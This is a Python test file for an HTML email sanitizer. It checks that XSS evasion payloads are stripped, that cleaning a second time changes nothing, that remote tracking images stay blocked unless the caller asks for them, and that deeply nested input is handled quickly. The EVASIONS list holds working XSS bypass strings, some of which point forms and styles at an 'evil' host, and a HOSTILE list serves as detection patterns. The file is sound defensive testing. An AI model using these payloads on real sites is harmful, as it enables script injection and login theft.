"""The one cleaner: nothing that runs, fetches or acts comes through, and cleaning again changes nothing."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from teplo.kit.html import cleaned

EVASIONS = [
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
    "<form action='https://evil'><input name=password><button formaction='javascript:alert(1)'>x</button></form>",
    "<style>@import 'https://evil';body{background:url(javascript:alert(1))}</style>",
    "<div style='background:url(https://evil/x);position:fixed;width:expression(alert(1))'>x</div>",
    "<base href='https://evil'><meta http-equiv=refresh content='0;url=https://evil'><link rel=stylesheet href=x>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<div hx-get='/x' data-hx-get='/x' hx-on:load='alert(1)' id='main' class='modal'>x</div>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj4='>",
    "<template><script>alert(1)</script></template><xml><script>alert(1)</script></xml>",
    "<a href=\"https://a\" onmouseover=alert(1) style=\"color:red;behavior:url(x)\">x</a>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<body onload=alert(1)><details open ontoggle=alert(1)>x</details>",
]  # fmt: skip
HOSTILE = (
    "<script", "onerror", "onload=", "javascript:", "srcdoc", "<svg", "<math", "<form", "<style", "hx-", "<iframe",
    "expression", "url(", "position", "<base", "<meta", "<link", "<object", "<embed", "class=", " id=", "ontoggle",
)  # fmt: skip


@pytest.mark.parametrize("evasion", EVASIONS)
@pytest.mark.parametrize("remote", [False, True])
def test_nothing_that_runs_or_fetches_comes_through(evasion: str, remote: bool) -> None:
    shown = cleaned(evasion, remote=remote)
    tags = "".join(part.partition(">")[0] for part in shown.split("<")[1:])
    assert [word for word in HOSTILE if word.strip("<") in tags] == []
    assert cleaned(shown, remote=remote) == shown


@given(st.text(alphabet="<>/ab =\"'&;scriptimgonerrorsvgstylehref:\n\t\x00!-", max_size=300))
def test_cleaning_again_changes_nothing(text: str) -> None:
    once = cleaned(text)
    assert cleaned(once) == once


def test_what_people_write_stays() -> None:
    letter = '<p style="color:red">Добрый <b>день</b></p><table><tr><td colspan="2">1</td></tr></table>'
    assert cleaned(letter) == letter.replace("<tr>", "<tbody><tr>").replace("</tr>", "</tr></tbody>")
    assert cleaned('<a href="https://a.ru">a</a>') == '<a href="https://a.ru" rel="noopener noreferrer nofollow">a</a>'


def test_pictures_of_other_sites_are_shown_only_when_asked_for() -> None:
    letter = (
        '<img src="https://spy.ru/x.png" alt="logo"><img src="cid:a@b"><img src="data:image/png;base64,iVBORw0KGgo=">'
    )
    assert "spy.ru" not in cleaned(letter)
    assert "spy.ru" in cleaned(letter, remote=True)
    assert 'src="/files/1"' in cleaned(letter, pictures=lambda cid: "/files/1" if cid == "a@b" else None)


@pytest.mark.parametrize("piece", ["<div>", "<p><b>", "<table><tr><td>", "<a href=x><i>", "<", "&lt;", "<!--", "</b>"])
def test_depth_and_length_cost_little(piece: str) -> None:
    begun = time.process_time()
    cleaned(piece * 100_000)
    assert time.process_time() - begun < 3
